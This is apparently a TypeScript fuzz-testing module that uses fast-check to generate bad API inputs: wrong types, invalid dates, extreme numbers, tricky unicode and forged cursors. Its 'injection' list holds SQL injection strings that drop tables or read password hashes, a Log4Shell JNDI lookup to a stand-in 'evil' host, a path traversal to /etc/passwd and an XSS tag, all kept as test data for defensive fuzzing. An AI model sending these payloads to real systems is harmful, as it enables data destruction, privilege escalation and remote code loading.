/**
 * Bad values for fuzzing, by kind: wrong types, out-of-range dates and numbers, huge strings
 * (100,000 characters), unicode (astral, right-to-left, combining, NUL, lone surrogates) and
 * SQL-injection strings. Each arbitrary is fast-check's, so a run is repeatable from its seed.
 */
import fc from 'fast-check';

export const HUGE = 100_000;

export const injection = fc.constantFrom(
  "'; drop table tenants; --",
  "' or '1'='1",
  "alpha' --",
  '"; select pg_sleep(10); --',
  "1; update users set role = 'sp-admin'",
  '$$; drop table audit_log; $$',
  "') union select password_hash from users --",
  '\\x00\\',
  "%' and 1=1 and '%'='",
  ['$', '{jndi:ldap://evil/x}'].join(''),
  '../../../../etc/passwd',
  '<script>alert(1)</script>',
);

export const unicode = fc.oneof(
  fc.string({ unit: 'grapheme', minLength: 1, maxLength: 40 }),
  fc.string({ unit: 'binary', minLength: 1, maxLength: 40 }),
  fc.constantFrom(
    '\u0000',
    'a\u0000b',
    '\ud800',
    'x\udfffy',
    '\uffff\ufffe',
    '𝔘𝔫𝔦𝔠𝔬𝔡𝔢 🚀👩‍👩‍👧‍👦',
    'שלום\u200fمرحبا',
    'e\u0301\u0301\u0301',
    '\u202etxt.exe',
    '\t\r\n',
    ' ',
    '',
  ),
);

export const huge = fc.constantFrom(
  'x'.repeat(HUGE),
  '🚀'.repeat(HUGE / 2),
  `${"'".repeat(HUGE / 2)}`,
  'alpha'.repeat(HUGE / 5),
);

export const badString = fc.oneof(
  { weight: 3, arbitrary: injection },
  { weight: 4, arbitrary: unicode },
  { weight: 1, arbitrary: huge },
);

export const badDate = fc.oneof(
  fc.constantFrom(
    '0000-01-01T00:00:00Z',
    '0001-01-01T00:00:00Z',
    '1969-12-31T23:59:59Z',
    '1999-12-31T23:59:59Z',
    '9999-12-31T23:59:59Z',
    '+275760-09-13T00:00:00Z',
    '-271821-04-20T00:00:00Z',
    '2026-02-30T00:00:00Z',
    '2026-13-01T00:00:00Z',
    '2026-10-15T25:61:00Z',
    '2026-10-15',
    '2026-10',
    '2026-02-29',
    '0000-00-00',
    '2026-10-15T00:00:00+99:00',
    'yesterday',
    '1e400',
    '2099-01-01T00:00:00Z',
  ),
  fc
    .date({ min: new Date(-8.64e15), max: new Date(8.64e15), noInvalidDate: true })
    .map((d) => d.toISOString()),
  fc
    .integer({ min: -50_000_000, max: 50_000_000 })
    .map((n) => new Date(Date.UTC(2026, 0, 1) + n * 86_400_000).toISOString().slice(0, 10)),
);

export const badNumber = fc.oneof(
  fc.integer(),
  fc.constantFrom(-1, 0, 2 ** 31 - 1, 2 ** 31, -(2 ** 31) - 1, 2 ** 53 + 1, 1e308, 1.5, -0.5),
  fc.double({ noNaN: true }),
);

export const wrongType = fc.constantFrom<unknown>(
  null,
  0,
  -1,
  1.5,
  true,
  false,
  'a string',
  '12',
  {},
  { nested: { deeper: { deepest: 1 } } },
  [],
  [1, 'two', null],
);

/** Any bad value, for any position. */
export const badValue = fc.oneof(
  { weight: 4, arbitrary: badString },
  { weight: 2, arbitrary: badDate },
  { weight: 2, arbitrary: badNumber },
  { weight: 3, arbitrary: wrongType },
);

/** Cursors as the API never gave them out: base64url JSON of the wrong shape, or not base64 at all. */
export const forgedCursor = fc.oneof(
  fc.jsonValue({ maxDepth: 3 }).map((v) => Buffer.from(JSON.stringify(v)).toString('base64url')),
  fc
    .array(fc.oneof(fc.string(), fc.integer(), fc.double(), fc.constant(null), fc.boolean(), badString), {
      maxLength: 4,
    })
    .map((v) => Buffer.from(JSON.stringify(v)).toString('base64url')),
  badString,
);
